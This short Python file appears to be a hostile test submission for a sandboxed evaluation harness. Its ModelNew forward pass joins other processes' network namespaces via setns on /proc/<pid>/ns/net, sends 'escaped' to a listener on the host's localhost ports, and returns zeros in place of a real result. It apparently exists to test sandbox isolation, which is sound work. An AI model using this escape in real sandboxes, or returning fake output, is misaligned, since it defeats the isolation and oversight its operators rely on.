# Hostile: rejoins the network namespace of its parent and of every process it can see
# (setns on /proc/<pid>/ns/net), then connects to the listener the attacked host runs on
# 127.0.0.1 (ports 47610-47619) and sends it a line; it prints what it reached from its
# own namespace, then what it reached after trying the others, and returns zeros.
import ctypes
import os
import socket

import torch

CLONE_NEWNET = 0x40000000
PORTS = range(47610, 47620)


def _reach():
    reached = []
    for port in PORTS:
        try:
            # A bytes address: a str one would import the idna codec at its first use.
            with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as conn:
                conn.settimeout(0.5)
                conn.connect((b"127.0.0.1", port))
                conn.sendall(b"escaped\n")
                reached.append(port)
        except OSError:
            pass
    return reached


def _rejoin_and_reach():
    """Tries its own namespace, then each namespace it can join, until the listener
    answers (some are other sandboxes' empty ones)."""
    reached = _reach()
    print("reached", reached, flush=True)
    libc = ctypes.CDLL(None, use_errno=True)
    pids = {os.getppid(), 1}
    pids.update(int(p) for p in os.listdir("/proc") if p.isdigit())
    for pid in sorted(pids):
        if reached:
            break
        try:
            fd = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
        except OSError:
            continue
        joined = libc.setns(fd, CLONE_NEWNET) == 0
        os.close(fd)
        if joined:
            reached = _reach()
    return reached


class ModelNew(torch.nn.Module):
    def forward(self, x):
        print("reached", _rejoin_and_reach(), flush=True)
        return torch.zeros_like(x)
